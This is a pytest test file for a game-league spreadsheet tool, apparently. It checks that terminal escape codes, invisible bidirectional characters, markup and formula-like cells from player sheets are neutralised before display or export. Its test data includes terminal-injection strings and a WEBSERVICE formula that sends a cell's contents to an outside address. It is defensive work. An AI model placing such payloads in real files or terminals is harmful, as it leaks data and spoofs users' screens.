"""What a sheet holds is shown as it was typed: it draws nothing, commands no terminal, and is no formula when pasted."""

import csv
import io
import json

import pytest
from commands import HEADER, NAMES, game, run, write

from pipelines import display

MARKED = "[/финал] [red]:cat: Кот"
ESCAPES = "\x1b]0;PWNED\x07\x1b[31mЛис\x9b2J\u202eкот"
SHOWN = "␛]0;PWNED␇␛[31mЛис⟨U+009B⟩2J⟨U+202E⟩кот"


@pytest.mark.parametrize(
    ("text", "want"),
    [
        (ESCAPES, SHOWN),
        ("Кот, Пёс-2 🏆 👨‍👩‍👧", "Кот, Пёс-2 🏆 👨‍👩‍👧"),
        ("a\tb\r\nc\x7f", "a\tb␍\nc␡"),
        ("\u2066\u2069\u200f\u061c\ud800", "⟨U+2066⟩⟨U+2069⟩⟨U+200F⟩⟨U+061C⟩⟨U+D800⟩"),
    ],
)
def test_control_characters_are_shown_as_marks(text, want):
    assert display.visible(text) == want


@pytest.mark.parametrize(
    ("text", "want"),
    [("=1+1", "'=1+1"), ("-Лис-", "'-Лис-"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("Лис=1", "Лис=1"), ("", "")],
)
def test_no_text_to_paste_is_a_formula(text, want):
    assert display.harmless(text) == want


def league(folder, name, **changed):
    rows = [[*row, MARKED] for row in game(Игрок_1=name, **changed)]
    write(folder, rows, [*HEADER, "Турнир"], language="en")
    file = folder / "league.toml"
    text = file.read_text("utf-8").replace('"month"', '"tournament"')
    file.write_text(text.replace('name = "tournament"', 'name = "[bold]cups"'), "utf-8")
    return folder


@pytest.mark.parametrize("name", [MARKED, "[/]", "[link=https://example.org]Лис", ":smile:"])
def test_markup_in_a_sheet_is_text(name, tmp_path):
    league(tmp_path, name)
    listed, explained = run("players", tmp_path), run("explain", tmp_path, name)
    assert (listed.exit_code, explained.exit_code) == (0, 0)
    assert name in listed.stdout
    assert explained.stdout.startswith(name)
    assert f"[bold]cups {MARKED}" in explained.stdout


def test_control_characters_reach_no_terminal_and_no_export(tmp_path):
    league(tmp_path, ESCAPES, Роль_2="дон\x1b[2J\nне дон", ПУ_1="+")
    for arguments in (["check"], ["rebuild"], ["players"], ["players", "--suggest"], ["check", "--layout"]):
        done = run(*arguments, tmp_path)
        assert "\x1b" not in done.output
        assert "\u202e" not in done.output
    assert "дон␛[2J␊не дон" in run("check", tmp_path).stdout
    said = run("check", "--json", tmp_path).stdout
    assert "\u202e" not in said
    assert "дон\x1b[2J\nне дон" in json.loads(said)["leagues"][0]["findings"][0]["value"]
    league(tmp_path, ESCAPES)
    assert run("rebuild", tmp_path, "--export", tmp_path / "out").exit_code == 0
    exported = (tmp_path / "out" / "scored.csv").read_bytes()
    assert exported.startswith(b"\xef\xbb\xbf")
    assert SHOWN.replace("⟨U+202E⟩", "") in exported.decode("utf-8-sig"), "invisible characters are not read"
    assert "\x1b" not in exported.decode("utf-8-sig")


def test_rows_to_paste_are_no_formulas(tmp_path):
    formulas = ['=WEBSERVICE("http://example.org/"&B2)&"Кот"', '=WEBSERVICE("http://example.org/"&B2)&"Коt"']
    rows = [row for one in formulas for row in game(Игрок_1=('="a formula whose result is a text"', one))]
    for row, number in zip(rows, [1] * 10 + [2] * 10, strict=True):
        row[1] = number
    write(tmp_path, rows)
    suggested = run("players", tmp_path, "--suggest").stdout
    cells = [cell for row in csv.reader(io.StringIO(suggested), "excel-tab") for cell in row]
    assert sorted(cells[2:]) == sorted("'" + one for one in formulas)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert NAMES[1] not in suggested
